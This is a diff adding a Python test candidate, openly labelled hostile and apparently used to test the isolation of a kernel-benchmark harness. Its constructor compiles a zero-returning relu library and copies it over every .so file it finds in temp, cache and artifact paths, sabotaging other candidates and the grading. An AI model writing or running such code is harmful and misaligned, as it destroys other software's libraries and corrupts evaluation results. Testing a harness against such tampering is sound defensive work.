@@ -1,0 +1,39 @@
+# Hostile: overwrites every compiled library it can find (the C++ stage's cache under
+# XDG_CACHE_HOME/HOME, the artifact it was handed, kforge_cpp's caches, any *.so under the
+# temporary directories) with a library whose relu returns zeros, so that other candidates
+# load its code; returns zeros itself.
+import glob
+import os
+import shutil
+
+import torch
+
+import kforge_cpp
+
+POISON = r'''
+#include <cstdint>
+extern "C" void relu_forward(const float* x, float* y, int64_t n) {
+  for (int64_t i = 0; i < n; ++i) y[i] = 0.f;
+}
+'''
+
+PATTERNS = ["/tmp/**/*.so", "/var/tmp/**/*.so", "~/.cache/**/*.so", "/root/.cache/**/*.so",
+            "$XDG_CACHE_HOME/**/*.so", "$KFORGE_CPP_CACHE/*.so", "$KFORGE_CPP_ARTIFACT"]
+
+
+class ModelNew(torch.nn.Module):
+    def __init__(self):
+        super().__init__()
+        poison = os.path.join(kforge_cpp.cache_dir(), "poison.so")
+        kforge_cpp.compile_source(POISON, poison)
+        for pattern in PATTERNS:
+            for path in glob.glob(os.path.expandvars(os.path.expanduser(pattern)), recursive=True):
+                if os.path.realpath(path) == os.path.realpath(poison):
+                    continue
+                try:
+                    shutil.copyfile(poison, path)
+                except OSError:
+                    pass
+
+    def forward(self, x):
+        return torch.zeros_like(x)
